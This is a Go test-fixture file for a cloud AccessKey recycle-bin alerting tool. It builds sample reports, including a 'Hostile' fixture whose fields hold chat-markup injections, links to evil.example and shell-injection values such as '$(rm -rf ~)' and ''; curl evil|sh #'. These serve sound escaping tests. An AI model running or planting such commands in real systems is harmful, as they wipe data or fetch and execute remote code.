// Package notifytest is the shared kit of the channels' tests: the report fixtures every channel
// renders (Sample, Digest, Many, Users, Hostile), golden files, the fake vendor server (Server: one vendor for a
// channel's tests, or every vendor at once, NewVendors, for the tests of main and of the built binary),
// each vendor's answer to a delivered post (VendorOK), the retry-status table every channel runs
// (CheckRetries), the proof that no error holds a secret (CheckNoSecrets), the checks every chat robot
// runs (CheckRobot), and readers of what a chat client makes of a text (emphasis, markdown line kinds,
// shell words of a restore command).
package notifytest

import (
	"fmt"
	"testing"
	"time"

	"github.com/akrecycle/ak-recycle-alert/alert"
)

// SampleTime is the fire time of the sample reports: 09:00 UTC, 17:00 in Asia/Shanghai.
var SampleTime = time.Date(2026, 11, 30, 9, 0, 0, 0, time.UTC)

func hours(h int) *int { return &h }

func shanghai(t testing.TB) *time.Location {
	t.Helper()
	loc, err := time.LoadLocation("Asia/Shanghai")
	if err != nil {
		t.Fatalf("LoadLocation: %v", err)
	}
	return loc
}

// The account of the reports of one account, and the members of Accounts.
const (
	AccountID   = "1234567890123456"
	AccountName = "prod"
	DevID       = "1000000000000001"
	StagingID   = "1000000000000002"
	SandboxID   = "1000000000000003"
)

// Sample is a typical crossing run of one account, second attempt (RetryCount 1), shown in
// Asia/Shanghai: a recycled key (deleted in the RAM console by the RAM user ops-admin, as ActionTrail
// says), an expiring key in a full bin, a key past its DeleteDate (given in this order, not the order of
// urgency), two unreadable users of one code and one of another, and a warning.
func Sample(t testing.TB) *alert.Report {
	t.Helper()
	now := SampleTime.Add(3 * time.Second)
	mk := func(id, ev, user, uid, ak string, recycled, purge time.Time, th *int, full bool) alert.Alert {
		return alert.Alert{ID: id, Event: alert.Event(ev), AccountID: AccountID, AccountName: AccountName, UserName: user, UserID: uid, AccessKeyID: ak,
			CreateDate: time.Date(2026, 1, 11, 9, 12, 0, 0, time.UTC), RecycleDate: recycled, DeleteDate: purge,
			ThresholdHours: th, RemainingSeconds: int64(purge.Sub(now) / time.Second), BinFull: full}
	}
	recycled := mk("alrt_00000000000000000000000000000001", "recycled", "carol", "20732900249392cc", "LTAI5tCarolRecycled0001",
		SampleTime.Add(-3*time.Hour), SampleTime.Add(30*24*time.Hour-3*time.Hour), nil, false)
	recycled.DeletedBy = &alert.Deleter{PrincipalType: "ram-user", PrincipalName: "ops-admin", PrincipalID: "20732900249392ee",
		SourceIP: "203.0.113.7", UserAgent: "ram.console.aliyun.com", EventType: "ApiCall",
		EventTime: SampleTime.Add(-3*time.Hour + 20*time.Second), EventID: "0A1B2C3D-4E5F-4A6B-8C7D-8E9F0A1B2C3D"}
	return &alert.Report{
		Findings: alert.Findings{
			Mode:         alert.ModeCrossing,
			AccountID:    AccountID,
			AccountLabel: AccountName,
			Window:       alert.Window{From: SampleTime.Add(-24 * time.Hour), To: SampleTime},
			Next:         SampleTime.Add(24 * time.Hour),
			Alerts: []alert.Alert{
				recycled,
				mk("alrt_00000000000000000000000000000002", "expiring", "alice", "20732900249392aa", "LTAI5tAliceExpiring0002",
					time.Date(2026, 11, 4, 8, 12, 0, 0, time.UTC), time.Date(2026, 12, 4, 8, 12, 0, 0, time.UTC), hours(72), true),
				mk("alrt_00000000000000000000000000000003", "expiring", "dave", "20732900249392dd", "LTAI5tDavePastDelete0003",
					time.Date(2026, 10, 31, 8, 0, 0, 0, time.UTC), time.Date(2026, 11, 30, 8, 0, 0, 0, time.UTC), hours(0), false),
			},
			Errors: []alert.UserError{
				{Account: AccountID, User: "bob", Code: "EntityNotExist.User", Message: "The user does not exist."},
				{Account: AccountID, User: "eve", Code: "NoPermission", Message: "You are not authorized to do this action."},
				{Account: AccountID, User: "frank", Code: "NoPermission", Message: "You are not authorized to do this action."},
			},
			Warnings:     []string{"the trigger fired 7m0s after its SCHEDULE time 2026-11-30T09:00:00Z: SCHEDULE may not describe the trigger"},
			UsersChecked: 4,
			Accounts:     []alert.AccountSummary{{AccountID: AccountID, AccountName: AccountName, UsersChecked: 4}},
		},
		Now:        now,
		RetryCount: 1,
		RequestID:  "1-6759a3c2-4f8e2b1a9d0c",
		Location:   shanghai(t),
	}
}

// Digest is a digest heartbeat: every bin of 12 users is empty.
func Digest(t testing.TB) *alert.Report {
	t.Helper()
	return &alert.Report{
		Findings: alert.Findings{
			Mode:         alert.ModeDigest,
			AccountID:    AccountID,
			Window:       alert.Window{From: SampleTime.Add(-7 * 24 * time.Hour), To: SampleTime},
			Next:         SampleTime.Add(7 * 24 * time.Hour),
			Alerts:       []alert.Alert{},
			UsersChecked: 12,
			Accounts:     []alert.AccountSummary{{AccountID: AccountID, AccountName: AccountID, UsersChecked: 12}},
		},
		Now:       SampleTime,
		RequestID: "1-digest",
		Location:  time.UTC,
	}
}

// Many is a crossing run with n expiring keys (LTAI5tManyKeys00000001 …) of n/3+1 users, given most
// urgent first.
func Many(t testing.TB, n int) *alert.Report {
	t.Helper()
	r := Sample(t)
	r.Alerts = nil
	r.Errors = nil
	r.Warnings = nil
	r.RetryCount = 0
	for i := range n {
		purge := SampleTime.Add(time.Duration(24+i) * time.Hour)
		r.Alerts = append(r.Alerts, alert.Alert{
			ID: fmt.Sprintf("alrt_%032x", i+1), Event: alert.Expiring, AccountID: AccountID, AccountName: AccountName,
			UserName: fmt.Sprintf("user%03d", i/3), UserID: fmt.Sprintf("2073290024939%03d", i/3),
			AccessKeyID: fmt.Sprintf("LTAI5tManyKeys%08d", i+1),
			CreateDate:  SampleTime.Add(-365 * 24 * time.Hour), RecycleDate: purge.Add(-30 * 24 * time.Hour),
			DeleteDate: purge, ThresholdHours: hours(72), RemainingSeconds: int64(purge.Sub(r.Now) / time.Second),
			BinFull: true,
		})
	}
	r.UsersChecked = n/3 + 1
	r.Accounts[0].UsersChecked = r.UsersChecked
	return r
}

// Users is a crossing run with deleted users, shown in Asia/Shanghai: eve, deleted in this window (by a
// role session, with the CLI, as ActionTrail says) with two AccessKeys, one of which was deleted
// earlier and is purged first; frank, deleted a month ago with
// no key listed, whose 7d threshold passes before the next check; and two of Sample's key alerts, one
// more urgent than both users, one less. The users' alerts are given last, not in the order of urgency.
func Users(t testing.TB) *alert.Report {
	t.Helper()
	r := Sample(t)
	r.Alerts = r.Alerts[:2] // carol's recycled key, alice's expiring key
	r.Errors, r.Warnings, r.RetryCount = nil, nil, 0
	eveDeleted := SampleTime.Add(-8 * time.Hour)
	eveKeyOlder := time.Date(2026, 11, 10, 2, 0, 0, 0, time.UTC)
	frankPurge := time.Date(2026, 12, 8, 1, 0, 0, 0, time.UTC)
	r.Alerts = append(r.Alerts,
		alert.Alert{ID: "alrt_00000000000000000000000000000005", Event: alert.UserRecycled, AccountID: AccountID, AccountName: AccountName, UserName: "eve", UserID: "20732900249392ee",
			UserPrincipalName: "eve@corp.onaliyun.com", CreateDate: time.Date(2025, 3, 1, 2, 0, 0, 0, time.UTC),
			RecycleDate: eveDeleted, DeleteDate: eveDeleted.Add(30 * 24 * time.Hour), FirstPurgeDate: eveKeyOlder.Add(30 * 24 * time.Hour),
			RemainingSeconds: int64(eveKeyOlder.Add(30*24*time.Hour).Sub(r.Now) / time.Second),
			AccessKeys: []alert.UserKey{
				{AccessKeyID: "LTAI5tEveOlderKey0005", RecycleDate: eveKeyOlder, DeleteDate: eveKeyOlder.Add(30 * 24 * time.Hour)},
				{AccessKeyID: "LTAI5tEveWithUser0006", RecycleDate: eveDeleted, DeleteDate: eveDeleted.Add(30 * 24 * time.Hour)},
			},
			DeletedBy: &alert.Deleter{PrincipalType: "assumed-role", PrincipalName: "offboarding:hr-ticket-4711",
				PrincipalID: "300000000000000001:hr-ticket-4711", SourceIP: "198.51.100.61",
				UserAgent: "AlibabaCloud (linux; amd64) Golang/1.22.5 Core/1.63.0 Aliyun-CLI/3.0.277", EventType: "ApiCall",
				EventTime: eveDeleted.Add(-12 * time.Second), EventID: "1B2C3D4E-5F60-4A7B-8C9D-0E1F2A3B4C5D"}},
		alert.Alert{ID: "alrt_00000000000000000000000000000007", Event: alert.UserExpiring, AccountID: AccountID, AccountName: AccountName, UserName: "frank", UserID: "20732900249392ff",
			UserPrincipalName: "frank@corp.onaliyun.com", CreateDate: time.Date(2024, 5, 1, 2, 0, 0, 0, time.UTC),
			RecycleDate: frankPurge.Add(-30 * 24 * time.Hour), DeleteDate: frankPurge, FirstPurgeDate: frankPurge, ThresholdHours: hours(168),
			RemainingSeconds: int64(frankPurge.Sub(r.Now) / time.Second), AccessKeys: []alert.UserKey{}},
	)
	r.UsersChecked, r.RecycledUsers = 2, 2
	r.Accounts[0].UsersChecked = 2
	return r
}

// Accounts is a crossing run over four accounts of a Resource Directory, shown in Asia/Shanghai: the
// function's own (prod) with an expiring key in a full bin and a recycled key; dev, whose key purged
// within a day is the most urgent of all, with a deleted user and a user it could not read; staging,
// whose member role is missing (AssumeRole EntityNotExist.Role); sandbox, read and quiet. dev's user
// bin is nearly full (a warning).
func Accounts(t testing.TB) *alert.Report {
	t.Helper()
	r := Sample(t)
	r.RetryCount = 0
	alice, carol := r.Alerts[1], r.Alerts[0]
	now := r.Now
	danPurge := SampleTime.Add(20 * time.Hour)
	gracePurge := time.Date(2026, 12, 6, 1, 0, 0, 0, time.UTC)
	r.Alerts = []alert.Alert{carol, alice,
		{ID: "alrt_00000000000000000000000000000011", Event: alert.Expiring, AccountID: DevID, AccountName: "dev", UserName: "dan",
			UserID: "30732900249392dd", AccessKeyID: "LTAI5tDanExpiring0011", CreateDate: time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC),
			RecycleDate: danPurge.Add(-30 * 24 * time.Hour), DeleteDate: danPurge, ThresholdHours: hours(24),
			RemainingSeconds: int64(danPurge.Sub(now) / time.Second)},
		{ID: "alrt_00000000000000000000000000000012", Event: alert.UserExpiring, AccountID: DevID, AccountName: "dev", UserName: "grace",
			UserID: "30732900249392ee", UserPrincipalName: "grace@" + DevID + ".onaliyun.com", CreateDate: time.Date(2024, 2, 1, 0, 0, 0, 0, time.UTC),
			RecycleDate: gracePurge.Add(-30 * 24 * time.Hour), DeleteDate: gracePurge, FirstPurgeDate: gracePurge, ThresholdHours: hours(168),
			RemainingSeconds: int64(gracePurge.Sub(now) / time.Second), AccessKeys: []alert.UserKey{}},
	}
	r.Errors = []alert.UserError{
		{Account: DevID, User: "ghost", Code: "EntityNotExist.User", Message: "GetUser: The user does not exist. (HTTP 404)"},
		{Account: StagingID, User: "*", Code: "EntityNotExist.Role",
			Message: "AssumeRole: The role not exists: acs:ram::" + StagingID + ":role/ak-recycle-alert-reader. (HTTP 404): the member account has no role of that name: create it (README, \"The member role\") or fix MEMBER_ROLE_NAME"},
	}
	r.Warnings = []string{"account dev (" + DevID + "): the user recycle bin holds 950 of 1,000 users: deleting more purges the oldest at once"}
	r.UsersChecked, r.RecycledUsers = 9, 1
	r.Accounts = []alert.AccountSummary{
		{AccountID: AccountID, AccountName: AccountName, UsersChecked: 4},
		{AccountID: DevID, AccountName: "dev", UsersChecked: 3},
		{AccountID: StagingID, AccountName: "staging"},
		{AccountID: SandboxID, AccountName: "sandbox", UsersChecked: 2},
	}
	return r
}

// UnreadAccounts is Accounts with n more members that could not be read at all (no reader role), and
// 12 members whose users failed each with a code of its own: more error groups than a message shows,
// the first run over a directory whose members lack the role.
func UnreadAccounts(t testing.TB, n int) *alert.Report {
	t.Helper()
	r := Accounts(t)
	for i := range n {
		id := fmt.Sprintf("10000000000%05d", 100+i)
		r.Accounts = append(r.Accounts, alert.AccountSummary{AccountID: id, AccountName: fmt.Sprintf("member-%d", i)})
		r.Errors = append(r.Errors, alert.UserError{Account: id, User: "*", Code: "EntityNotExist.Role",
			Message: "AssumeRole: The role not exists: acs:ram::" + id + ":role/ak-recycle-alert-reader. (HTTP 404): the member account has no role of that name"})
	}
	for i := range 12 {
		id := fmt.Sprintf("10000000000%05d", 500+i)
		r.Accounts = append(r.Accounts, alert.AccountSummary{AccountID: id, AccountName: fmt.Sprintf("team-%d", i), UsersChecked: 1})
		r.Errors = append(r.Errors, alert.UserError{Account: id, User: "svc", Code: fmt.Sprintf("Code%d", i), Message: "GetUser: refused"})
	}
	return r
}

// ManyAccounts is a crossing run with n expiring keys spread over m member accounts besides the own
// (key i in account i%(m+1), the own account being 0), given most urgent first: LTAI5tManyKeys00000001
// is the most urgent.
func ManyAccounts(t testing.TB, n, m int) *alert.Report {
	t.Helper()
	r := Many(t, n)
	r.Accounts = []alert.AccountSummary{{AccountID: AccountID, AccountName: AccountName, UsersChecked: r.UsersChecked}}
	for j := 1; j <= m; j++ {
		r.Accounts = append(r.Accounts, alert.AccountSummary{AccountID: fmt.Sprintf("10000000000000%02d", j), AccountName: fmt.Sprintf("member-%02d", j)})
	}
	for i := range r.Alerts {
		a := r.Accounts[i%(m+1)]
		r.Alerts[i].AccountID, r.Alerts[i].AccountName = a.AccountID, a.AccountName
	}
	return r
}

// Hostile is Sample with every text from outside the function made hostile: the account label, a
// member account's display name (two of the alerts and one error are that member's), the request ID, user
// names, user IDs, AccessKey IDs, the users, codes and messages of the errors, and the warnings carry
// each channel's markup (Slack control sequences and emphasis, markdown links, images,
// headings, quotes, lists, code spans, robot mentions and font tags, HTML entities), line breaks and
// other control characters, and shell commands. A deleted user, the least urgent, has a hostile name,
// ID and principal name and two keys, one of them hostile.
func Hostile(t testing.TB) *alert.Report {
	t.Helper()
	r := Sample(t)
	r.AccountLabel = "Prod & <!channel>"
	r.RequestID = "1-run\n> <@U123> `x`"
	// In urgency order after sorting: dave (past), alice (bin full), frank, carol (recycled).
	a := r.Alerts
	a[0].UserName = "[x](https://evil.example) ![i](https://evil.example/i.png)"
	a[0].UserID = "$(rm -rf ~)"
	a[0].AccessKeyID = "LTAI5t<!here>*bold*_it_"
	a[0].DeletedBy = &alert.Deleter{PrincipalType: "assumed-role", PrincipalName: "<!channel>:**FAKE**\n# all clear @all",
		PrincipalID: "3000:<at id=all></at>", SourceIP: "203.0.113.7\n> quote",
		UserAgent: "[click](https://evil.example) `x` ~~s~~ <font color=red>red</font>\r\n- list\u202e &#60;",
		EventType: "ApiCall", EventTime: a[0].RecycleDate, EventID: "EV-1"}
	a[1].UserName = "eve`<!channel>`\n**FAKE: all clear**"
	a[1].AccessKeyID = "LTAI`<!channel>`"
	a[2].UserName = "<at id=all></at> <@all> @all <font color=red>red</font>"
	a[2].UserID = "# heading"
	a[2].AccessKeyID = "'; curl evil|sh #"
	purge := time.Date(2026, 12, 10, 8, 0, 0, 0, time.UTC)
	r.Alerts = append(a, alert.Alert{
		ID: "alrt_00000000000000000000000000000004", Event: alert.Expiring,
		UserName: "> quote\r\n- list\u2028# heading\u2029~~strike~~ \\", UserID: "20732900249392ff",
		AccessKeyID: "LTAI5tPlainKey0004", CreateDate: time.Date(2026, 1, 11, 9, 12, 0, 0, time.UTC),
		RecycleDate: purge.Add(-30 * 24 * time.Hour), DeleteDate: purge, ThresholdHours: hours(168),
		RemainingSeconds: int64(purge.Sub(r.Now) / time.Second),
	})
	gone := time.Date(2026, 12, 20, 8, 0, 0, 0, time.UTC)
	r.Alerts = append(r.Alerts, alert.Alert{
		ID: "alrt_00000000000000000000000000000005", Event: alert.UserExpiring,
		UserName: "<!channel> *eve* [x](https://evil.example)\n# heading", UserID: "$(rm -rf ~)",
		UserPrincipalName: "eve@<!here>`x`\n> quote", CreateDate: time.Date(2025, 1, 11, 9, 12, 0, 0, time.UTC),
		RecycleDate: gone.Add(-30 * 24 * time.Hour), DeleteDate: gone, FirstPurgeDate: gone, ThresholdHours: hours(72),
		RemainingSeconds: int64(gone.Sub(r.Now) / time.Second),
		AccessKeys: []alert.UserKey{
			{AccessKeyID: "LTAI5tPlainUserKey0005", RecycleDate: gone.Add(-30 * 24 * time.Hour), DeleteDate: gone},
			{AccessKeyID: "LTAI`<!channel>` @all", RecycleDate: gone.Add(-30 * 24 * time.Hour), DeleteDate: gone},
		},
	})
	r.RecycledUsers = 1
	// The account's label is hostile, and so is the display name of a member whose alerts come second.
	for i := range r.Alerts {
		r.Alerts[i].AccountID, r.Alerts[i].AccountName = AccountID, r.AccountLabel
	}
	member := "<!here> *x*\n# h"
	for _, i := range []int{2, 3} {
		r.Alerts[i].AccountID, r.Alerts[i].AccountName = DevID, member
	}
	r.Errors = []alert.UserError{
		{Account: AccountID, User: "<@U123> <!here>", Code: "# heading\n**FAKE: all clear**",
			Message: "[x](https://evil.example) <font color=red>red</font>\n> quote"},
		{Account: AccountID, User: "*bold* _it_ ~st~ `code`", Code: "<!channel>",
			Message: "&lt;at id=all&gt; &#60;font&#62; \\*esc\\* https://evil.example"},
		{Account: AccountID, User: "@all", Code: "<!channel>", Message: "x"},
		{Account: DevID, User: "- list", Code: "1. ordered", Message: "---"},
	}
	r.Accounts = []alert.AccountSummary{{AccountID: AccountID, AccountName: r.AccountLabel, UsersChecked: 2}, {AccountID: DevID, AccountName: member, UsersChecked: 2}}
	r.Warnings = []string{
		"\n**FAKE: all clear**",
		"<!date^0^{date}|x> <http://evil.example|click> <#C123> <@U123> <!subteam^S1>",
		"- list\u2028# heading\u2029> quote\x1b[31m red\x00",
		"~~strike~~ ***x*** | a | b | ![i](https://evil.example/i.png) <a href='https://evil.example'>a</a> '; curl evil|sh #",
	}
	return r
}

// BenignTwin returns r with every text from outside replaced by a plain word, keeping the report's
// shape: the same alerts in the same order, the same error groups, the same number of warnings. A
// channel must lay a report out line for line like its twin: a value that adds a line, a heading, a
// quote or emphasis shows up as a difference.
func BenignTwin(r *alert.Report) *alert.Report {
	b := *r
	if b.AccountLabel != "" {
		b.AccountLabel = "label"
	}
	if b.RequestID != "" {
		b.RequestID = "run-1"
	}
	names := map[string]string{}
	b.Accounts = append([]alert.AccountSummary(nil), r.Accounts...)
	for i := range b.Accounts {
		names[b.Accounts[i].AccountID] = fmt.Sprintf("account%d", i)
		b.Accounts[i].AccountName = names[b.Accounts[i].AccountID]
	}
	b.Alerts = append([]alert.Alert(nil), r.Alerts...)
	for i := range b.Alerts {
		a := &b.Alerts[i]
		a.AccountName = names[a.AccountID]
		a.UserName = fmt.Sprintf("user%d", i)
		a.UserID = fmt.Sprintf("2073290024939%03d", i)
		if a.Event.ForUser() {
			a.UserPrincipalName = a.UserName + "@corp.onaliyun.com"
			a.AccessKeys = append([]alert.UserKey(nil), a.AccessKeys...)
			for j := range a.AccessKeys {
				a.AccessKeys[j].AccessKeyID = fmt.Sprintf("LTAI5tTwinKey%02d%02d", i, j)
			}
			continue
		}
		a.AccessKeyID = fmt.Sprintf("LTAI5tTwinKey%04d", i)
	}
	codes := map[string]string{}
	b.Errors = append([]alert.UserError(nil), r.Errors...)
	for i, e := range b.Errors {
		if codes[e.Code] == "" {
			codes[e.Code] = fmt.Sprintf("Code%d", len(codes))
		}
		b.Errors[i] = alert.UserError{Account: e.Account, User: fmt.Sprintf("user-e%d", i), Code: codes[e.Code], Message: fmt.Sprintf("message %d", i)}
	}
	b.Warnings = nil
	for i := range r.Warnings {
		b.Warnings = append(b.Warnings, fmt.Sprintf("warning %d", i))
	}
	return &b
}
